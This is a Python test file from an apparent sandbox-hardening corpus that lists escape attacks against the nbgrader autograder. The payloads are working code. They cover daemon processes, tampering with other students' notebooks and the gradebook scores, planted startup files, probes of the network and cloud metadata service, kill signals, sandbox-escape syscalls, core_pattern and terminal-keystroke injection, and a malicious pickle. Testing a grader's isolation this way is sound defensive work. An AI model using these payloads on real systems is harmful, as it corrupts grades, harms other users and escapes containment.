"""Attacks that escape: files, processes, network, signals and system calls of the host."""

from __future__ import annotations

from corpus.attack import LEFT, SAY_ESCAPED, SLEEP, Submission, answer, attack, cell

F = "escape"

cell(
    F,
    "daemon",
    "a process that outlives the run",
    "survives",
    f"""
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 64)
        os.execvp("sleep", ["sleep", "{SLEEP}"])
    os._exit(0)
""",
    keeps=True,
)

cell(
    F,
    "daemon-by-shell",
    "the same, by nohup and &",
    "survives",
    f"!nohup setsid sleep {SLEEP} >/dev/null 2>&1 &",
    keeps=True,
)

cell(
    F,
    "at-exit",
    "work done after the last test",
    "none",
    f"""
import atexit, os, signal
def late(*a):
    print("late"); open("/tmp/{LEFT}-exit", "w").close(); os.system("sleep {SLEEP} &")
atexit.register(late); signal.signal(signal.SIGTERM, late); signal.signal(signal.SIGHUP, late)
""",
    why="nbgrader's kernel leaves it a moment; timing decides",
    keeps=True,
)


@attack(F, "the neighbor's submission, changed before it is graded", "harm", keeps=True)
def neighbor_changed(work: Submission) -> None:
    work.add(f"""
import json, os, glob
for folder in ("../../..", {str(work.course)!r}):
    for name in glob.glob(folder + "/submitted/*/lab/lab.ipynb"):
        if "honest" in name:
            try:
                nb = json.load(open(name))
                nb["cells"] = nb["cells"][:3]
                json.dump(nb, open(name, "w"))
                print("wrote", name)
            except OSError as error: print(error)
""")


@attack(F, "a full score, written into the gradebook", "harm", keeps=True)
def marks_written(work: Submission) -> None:
    work.add(f"""
import sqlite3, glob
for name in glob.glob("../../../*.db") + [{str(work.course)!r} + "/gradebook.db"]:
    try:
        base = sqlite3.connect(name, timeout=1)
        base.execute("update grade set manual_score = 1")
        base.commit()
    except sqlite3.Error as error: print(error)
""")


@attack(
    F,
    "the gradebook, locked until the kernel ends",
    "none",
    why="nbgrader waits five seconds and then aborts; the lock ends with the cell",
    keeps=True,
)
def gradebook_locked(work: Submission) -> None:
    work.add(f"""
import sqlite3, time
try:
    base = sqlite3.connect({str(work.course)!r} + "/gradebook.db", timeout=1)
    base.execute("begin exclusive"); time.sleep(1); base.rollback()
except sqlite3.Error as error: print(error)
""")


@attack(F, "configuration of the course, for the instructor's next command", "harm", keeps=True)
def course_configuration_written(work: Submission) -> None:
    work.add(f"""
import os
for name in ("nbgrader_config.py", "lab_helper.py", "source/lab/lab_helper.py", "exchange",
             "autograded/x", ".autograder/lab.json", "submitted/x"):
    for folder in ("../../..", {str(work.course)!r}):
        try: open(folder + "/" + name, "a").write("# {LEFT}\\n")
        except OSError as error: print(error)
""")


cell(
    F,
    "home-written",
    "start-up files in the instructor's home and Python",
    "harm",
    f"""
import os, site, sys, glob
places = [os.path.expanduser("~/.ipython/profile_default/startup"),
          os.path.expanduser("~/.jupyter"), os.path.expanduser("~/.config"), "/tmp", "/dev/shm",
          "/run", "/var/tmp", "/etc", "/usr/lib", sys.prefix, *site.getsitepackages()]
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        open(place + "/{LEFT}.pth", "w").write("")
    except OSError as error: print(place, error)
""",
    keeps=True,
)


@attack(
    F,
    "the host's network: loopback, the world, names",
    "none",
    why="the run against plain nbgrader has no network",
    keeps=True,
)
def network(work: Submission) -> None:
    work.add(f"""
import socket
for address in (("127.0.0.1", {work.listener}), ("10.0.0.1", 80), ("169.254.169.254", 80)):
    try:
        s = socket.create_connection(address, timeout=0.5)
        s.send(b"{LEFT}"); print({SAY_ESCAPED}, address)
    except OSError as error: print(address, error)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"{LEFT}", ("127.0.0.1", {work.listener}))
except OSError as error: print(error)
try: print(socket.gethostbyname("example.org"), {SAY_ESCAPED})
except OSError as error: print(error)
""")


cell(
    F,
    "sockets-of-the-host",
    "abstract and named sockets of the host, and one left behind",
    "none",
    f"""
import socket, os, glob
for line in open("/proc/net/unix").read().splitlines()[1:]:
    path = line.split()[-1]
    if path[:1] in "@/":
        try:
            s = socket.socket(socket.AF_UNIX); s.settimeout(0.3)
            s.connect(path.replace("@", "\\0", 1)); print("connected", path)
        except OSError: pass
s = socket.socket(socket.AF_UNIX); s.bind("\\0{LEFT}"); s.listen()
for kind in (socket.AF_VSOCK, socket.AF_PACKET, socket.AF_ALG, 16):
    try: socket.socket(kind, socket.SOCK_RAW); print("family", kind)
    except OSError as error: print(error)
""",
    why="its own kernel's sockets",
    keeps=True,
)


@attack(
    F,
    "signals to every process it can see, if it cannot see the course",
    "none",
    why="it sends none where it can see the course, because that is not a sandbox",
)
def signals(work: Submission) -> None:
    work.add(f"""
import os, signal
if os.path.exists({str(work.course)!r}):
    print("in sight of the course: not fired")
else:
    for kind in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1, -1):
            try: os.kill(pid, kind)
            except OSError as error: print(pid, error)
""")


CALLS = f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, number, *arguments):
    got = libc.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    print(name, got, os.strerror(ctypes.get_errno()) if got < 0 else "")
    return got
if os.uname().machine == "x86_64":
    outside = [
        ("unshare user", 272, 0x10000000), ("unshare mount", 272, 0x20000), ("setns", 308, 0, 0),
        ("mount", 165, b"none", b"/tmp", b"tmpfs", 0, 0), ("umount", 166, b"/proc", 2),
        ("pivot_root", 155, b"/", b"/"), ("chroot", 161, b"/"), ("bpf", 321, 0, 0, 0),
        ("perf_event_open", 298, 0, 0, -1, -1, 0),
        ("io_uring_setup", 425, 8, ctypes.create_string_buffer(256)), ("keyctl", 250, 0, -3, 0),
        ("add_key", 248, b"user", b"x", b"y", 1, -4), ("userfaultfd", 323, 0),
        ("ptrace", 101, 16, os.getppid(), 0, 0), ("open_by_handle_at", 304, -100, 0, 0),
        ("init_module", 175, 0, 0, b""), ("kexec_load", 246, 0, 0, 0, 0),
        ("swapon", 167, b"/x", 0), ("reboot", 169, 0, 0, 0),
        ("memfd_create", 319, b"x", 0), ("shmget", 29, 0, 4096, 0o1600),
        ("pidfd_getfd", 438, 0, 0, 0), ("process_vm_readv", 310, os.getppid(), 0, 0, 0, 0, 0),
        ("quotactl", 179, 0, 0, 0, 0), ("setuid 0", 105, 0), ("clone3", 435, 0, 0),
        ("clone newuser", 56, 0x10000000 | 17, 0, 0, 0, 0), ("x32 getpid", 0x40000000 + 39),
    ]
    harmless = ("setuid 0", "ptrace", "clone3", "pidfd_getfd", "process_vm_readv")
    pid = os.getpid()
    for one in outside:
        got = call(*one)
        if os.getpid() != pid: os._exit(0)
        if got >= 0 and one[0] not in harmless: print({SAY_ESCAPED}, one[0])
"""
cell(
    F,
    "system-calls",
    "the system calls that leave a sandbox",
    "none",
    CALLS,
    why="escapes are tested in our sandbox",
    keeps=False,
)

cell(
    F,
    "limits-raised",
    "its own limits raised, its priority too",
    "none",
    f"""
import resource, os
for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE,
              resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):
    try:
        before = resource.getrlimit(limit)[1]
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        if before != resource.RLIM_INFINITY: print({SAY_ESCAPED}, limit)
    except (ValueError, OSError) as error: print(error)
before = os.getpriority(os.PRIO_PROCESS, 0)
try: os.nice(-20)
except OSError as error: print(error)
if os.getpriority(os.PRIO_PROCESS, 0) < before: print({SAY_ESCAPED}, "nice")
for name, text in (("/proc/sys/kernel/core_pattern", "|/bin/id"),
                   ("/proc/self/oom_score_adj", "-1000"), ("/proc/sysrq-trigger", "h"),
                   ("/sys/kernel/uevent_helper", "/x"), ("/sys/fs/cgroup/memory/tasks", "1")):
    try:
        os.write(os.open(name, os.O_WRONLY), text.encode()); print({SAY_ESCAPED}, name)
    except OSError as error: print(name, error)
""",
    why="escapes are tested in our sandbox",
    keeps=True,
)

cell(
    F,
    "terminal-typed",
    "characters typed into the instructor's terminal",
    "none",
    f"""
import fcntl, os
for name in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        with open(name) as terminal: fcntl.ioctl(terminal, 0x5412, b"#"); print({SAY_ESCAPED}, name)
    except OSError as error: print(name, error)
""",
    why="no terminal here",
    keeps=True,
)

cell(
    F,
    "sockets-of-its-own-kernel",
    "the sockets of its own kernel, removed or replaced by links",
    "none",
    """
import glob, os
for folder in ("/s", "/run", "/tmp", "/job", os.path.expanduser("~")):
    for name in glob.glob(folder + "/**", recursive=True):
        try:
            import stat
            if stat.S_ISSOCK(os.lstat(name).st_mode):
                os.unlink(name); os.symlink("/etc/passwd", name)
        except OSError: pass
""",
    why="its own kernel only",
)

answer(
    F,
    "crash-in-c",
    "a segmentation fault in a call",
    "none",
    "import ctypes\ndef transpose(a): ctypes.string_at(0)",
    why="nbgrader drops the whole submission",
    keeps=True,
)

answer(
    F,
    "fork-in-a-call",
    "a child process that continues where its parent was",
    "none",
    f"""
import os
def transpose(a):
    if os.fork() == 0:
        os.setsid()
        os.execvp("sleep", ["sleep", "{SLEEP}"])
    return a
""",
    why="the same daemon, started in a call",
    keeps=True,
)

cell(
    F,
    "pickles",
    "pickles and archives left for a grader that loads them",
    "none",
    f"""
import pickle, numpy as np, zipfile
class Bomb:
    def __reduce__(self): return (__import__("os").system, ("sleep {SLEEP} &",))
for name in ("data.pkl", "result.pickle", "cache.npy", "lab.ipynb.pkl"):
    open(name, "wb").write(pickle.dumps(Bomb()))
np.save("x.npy", np.array([Bomb()], dtype=object), allow_pickle=True)
""",
    why="nothing loads them",
    keeps=True,
)
